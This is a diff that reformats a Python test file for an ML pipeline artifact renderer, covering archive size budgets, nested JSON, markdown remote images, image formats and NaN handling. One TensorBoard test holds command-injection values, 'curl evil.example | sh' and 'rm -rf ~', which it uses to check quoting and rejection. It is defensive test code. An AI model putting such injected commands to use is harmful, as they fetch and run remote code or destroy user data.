@@ -63,17 +63,21 @@ def peak_of(fn):
 
 
 def only_output(data: bytes, name="data.tgz", kind=kinds.KFP_ARCHIVE):
-    out, = render_artifact(BytesSource(name, data), kind, ctx())
+    (out,) = render_artifact(BytesSource(name, data), kind, ctx())
     return out
 
 
 # --- archives ------------------------------------------------------------------------
 
-@pytest.mark.parametrize("compress, what", [
-    (lambda raw: bz2.compress(raw), "bzip2"),
-    (lambda raw: lzma.compress(raw), "xz"),
-    (lambda raw: raw, "not compressed"),
-])
+
+@pytest.mark.parametrize(
+    "compress, what",
+    [
+        (lambda raw: bz2.compress(raw), "bzip2"),
+        (lambda raw: lzma.compress(raw), "xz"),
+        (lambda raw: raw, "not compressed"),
+    ],
+)
 def test_only_gzip_archives_are_read(compress, what):
     out = only_output(compress(files.tar_plain({"data.csv": b"a\n1\n"})))
     assert out.failed and "gzip" in out.error and what in out.error, out.error
@@ -104,7 +108,7 @@ def test_unpacking_stops_at_the_byte_budget(settings):
 
 def test_the_budget_reader_never_holds_more_than_its_budget():
     reader = archive.BoundedGzipReader(gzip.compress(b"\0" * (64 * MiB)), budget=2 * MiB)
-    result, peak = peak_of(lambda: reader.read(1024 ** 3))  # a tar header asking for 1 GiB
+    result, peak = peak_of(lambda: reader.read(1024**3))  # a tar header asking for 1 GiB
     assert isinstance(result, RenderError) and "more than 2.0 MiB" in str(result)
     assert peak < 6 * MiB
 
@@ -120,12 +124,14 @@ def test_sparse_members_and_header_chains_are_refused():
 
 
 def test_a_normal_kfp_archive_still_unpacks():
-    out = only_output(files.tgz({"mlpipeline-metrics.json": files.metrics_json()}), "mlpipeline-metrics.tgz",
-                      kinds.METRICS)
+    out = only_output(
+        files.tgz({"mlpipeline-metrics.json": files.metrics_json()}), "mlpipeline-metrics.tgz", kinds.METRICS
+    )
     assert not out.failed and out.viewer == "metrics"
 
 
 # --- CSV lines ------------------------------------------------------------------------
+
 
 def endless_line(total: int, step: int = 64 * 1024):
     chunk = b"x" * step
@@ -158,6 +164,7 @@ def test_a_table_that_is_one_long_line_fails_with_a_reason(settings):
 
 # --- JSON and metadata ------------------------------------------------------------------
 
+
 def test_deeply_nested_json_is_a_reason_not_a_crash():
     deep = ("[" * 100_000 + "]" * 100_000).encode()
     for renderer in (kfp_metadata.render, metrics.render):
@@ -169,13 +176,15 @@ def test_deeply_nested_json_is_a_reason_not_a_crash():
 
 def test_json_files_have_their_own_size_budget(settings):
     settings.JSON_MAX_BYTES = 1024
-    doc = json.dumps({"version": 1, "outputs": [{"type": "markdown", "storage": "inline",
-                                                 "source": "x" * 2000}]}).encode()
+    doc = json.dumps(
+        {"version": 1, "outputs": [{"type": "markdown", "storage": "inline", "source": "x" * 2000}]}
+    ).encode()
     with pytest.raises(RenderError, match="1.0 KiB"):
         kfp_metadata.render(BytesSource("mlpipeline-ui-metadata.json", doc), ctx())
 
 
 # --- Markdown, TensorBoard ---------------------------------------------------------------
+
 
 def test_markdown_has_its_own_size_budget(settings):
     settings.MARKDOWN_MAX_BYTES = 64 * 1024
@@ -189,7 +198,9 @@ def test_remote_images_in_markdown_become_links(settings):
     assert "<img" not in html
     assert 'href="https://tracker.example/pixel.png?u=1"' in html and "the loss curve" in html
     settings.MARKDOWN_ALLOW_REMOTE_IMAGES = True
-    assert '<img src="https://tracker.example/pixel.png?u=1"' in markdown.to_html("![x](https://tracker.example/pixel.png?u=1)")
+    assert '<img src="https://tracker.example/pixel.png?u=1"' in markdown.to_html(
+        "![x](https://tracker.example/pixel.png?u=1)"
+    )
 
 
 def test_stored_markdown_html_loses_remote_images_when_shown(settings):
@@ -202,12 +213,15 @@ def test_stored_markdown_html_loses_remote_images_when_shown(settings):
 def test_tensorboard_command_quotes_the_log_directory():
     out = tensorboard.output("s3://bucket/run 1/logs; curl evil.example | sh")
     assert out.payload["command"] == "tensorboard --logdir 's3://bucket/run 1/logs; curl evil.example | sh'"
-    assert tensorboard.output("s3://bucket/logs").payload["command"] == "tensorboard --logdir s3://bucket/logs"
+    assert (
+        tensorboard.output("s3://bucket/logs").payload["command"] == "tensorboard --logdir s3://bucket/logs"
+    )
     with pytest.raises(RenderError, match="control character"):
         tensorboard.output("s3://bucket/logs\n; rm -rf ~")
 
 
 # --- images ---------------------------------------------------------------------------
+
 
 def image_bytes(fmt: str, mode="RGB") -> bytes:
     out = io.BytesIO()
@@ -224,23 +238,27 @@ def test_only_allowed_image_formats_are_decoded(fmt):
 
 @pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP", "BMP"])
 def test_allowed_image_formats_still_render(fmt):
-    out, = image.render(BytesSource("plot.img", image_bytes(fmt)), ctx())
+    (out,) = image.render(BytesSource("plot.img", image_bytes(fmt)), ctx())
     assert out.payload["format"] == fmt
 
 
 def test_the_image_format_list_is_a_setting(settings):
     settings.IMAGE_FORMATS = ["PNG", "TIFF"]
-    out, = image.render(BytesSource("scan.png", image_bytes("TIFF")), ctx())
+    (out,) = image.render(BytesSource("scan.png", image_bytes("TIFF")), ctx())
     assert out.payload["format"] == "TIFF" and not out.payload["full_view"]
 
 
 # --- poison values: NaN and Infinity ------------------------------------------------------
 
-@pytest.mark.parametrize("text", [
-    "fpr,tpr,thresholds\n0,0,1\nnan,0.5,0.5\n1,1,0\n",
-    "fpr,tpr,thresholds\n0,0,1\n0.5,inf,0.5\n1,1,0\n",
-    "fpr,tpr,thresholds\n0,0,1\n0.5,-Infinity,0.5\n1,1,0\n",
-])
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fpr,tpr,thresholds\n0,0,1\nnan,0.5,0.5\n1,1,0\n",
+        "fpr,tpr,thresholds\n0,0,1\n0.5,inf,0.5\n1,1,0\n",
+        "fpr,tpr,thresholds\n0,0,1\n0.5,-Infinity,0.5\n1,1,0\n",
+    ],
+)
 def test_roc_refuses_non_finite_rates(text):
     with pytest.raises(RenderError, match="not a finite number"):
         roc.curve(text)
@@ -252,16 +270,29 @@ def test_roc_keeps_sklearn_infinite_first_threshold():
     json.dumps(c, allow_nan=False)
 
 
-@pytest.mark.parametrize("text", ["target,predicted,count\na,a,nan\na,b,1\n", "target,predicted,count\na,a,inf\n",
-                                  "target,predicted,count\na,a,1e308\na,b,1e308\n"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "target,predicted,count\na,a,nan\na,b,1\n",
+        "target,predicted,count\na,a,inf\n",
+        "target,predicted,count\na,a,1e308\na,b,1e308\n",
+    ],
+)
 def test_confusion_matrix_refuses_non_finite_counts(text):
     with pytest.raises(RenderError, match="finite"):
         confusion_matrix.matrix(text)
 
 
-@pytest.mark.parametrize("doc", ['{"current": NaN, "total": 10}', '{"current": 1, "total": Infinity}',
-                                 '{"current": "nan", "total": 10}', '{"current": 1, "total": "inf"}',
-                                 '{"current": 1e999, "total": 10}'])
+@pytest.mark.parametrize(
+    "doc",
+    [
+        '{"current": NaN, "total": 10}',
+        '{"current": 1, "total": Infinity}',
+        '{"current": "nan", "total": 10}',
+        '{"current": 1, "total": "inf"}',
+        '{"current": 1e999, "total": 10}',
+    ],
+)
 def test_progress_refuses_non_finite_numbers(doc):
     with pytest.raises(RenderError, match="finite"):
         progress.parse(doc)
@@ -287,22 +318,28 @@ def test_sorting_a_column_with_nan_values_is_total():
 
 # --- found by the fuzz test (tests/runs/rendering/test_fuzz.py) ---------------------------
 
+
 def test_charts_read_csv_with_carriage_returns():
     assert confusion_matrix.matrix("target,predicted,count\ra,a,3\ra,b,1\r")["counts"] == [[3, 1], [0, 0]]
     assert roc.curve("fpr,tpr\r\n0,0\r1,1\r")["auc"] == 0.5
 
 
-@pytest.mark.parametrize("output, reason", [
-    ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": 5}, "labels"),
-    ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": [None]}, "labels"),
-    ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": [{"name": None}]}, "schema"),
-    ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": ["fpr"]}, "schema"),
-    ({"type": "table", "storage": "inline", "source": "1,2\n", "header": "a,b"}, "header"),
-    ({"type": "table", "storage": "inline", "source": "1,2\n", "format": ["csv"]}, "not supported"),
-    ({"type": ["roc"], "source": "x"}, "Unknown output type"),
-])
+@pytest.mark.parametrize(
+    "output, reason",
+    [
+        ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": 5}, "labels"),
+        ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": [None]}, "labels"),
+        ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": [{"name": None}]}, "schema"),
+        ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": ["fpr"]}, "schema"),
+        ({"type": "table", "storage": "inline", "source": "1,2\n", "header": "a,b"}, "header"),
+        ({"type": "table", "storage": "inline", "source": "1,2\n", "format": ["csv"]}, "not supported"),
+        ({"type": ["roc"], "source": "x"}, "Unknown output type"),
+    ],
+)
 def test_metadata_with_wrong_json_types_fails_that_output_with_a_reason(output, reason):
-    doc = json.dumps({"version": 1, "outputs": [output, {"type": "markdown", "storage": "inline", "source": "ok"}]})
+    doc = json.dumps(
+        {"version": 1, "outputs": [output, {"type": "markdown", "storage": "inline", "source": "ok"}]}
+    )
     bad, good = kfp_metadata.render(BytesSource("mlpipeline-ui-metadata.json", doc.encode()), ctx())
     assert bad.failed and reason in bad.error, bad.error
     assert not good.failed
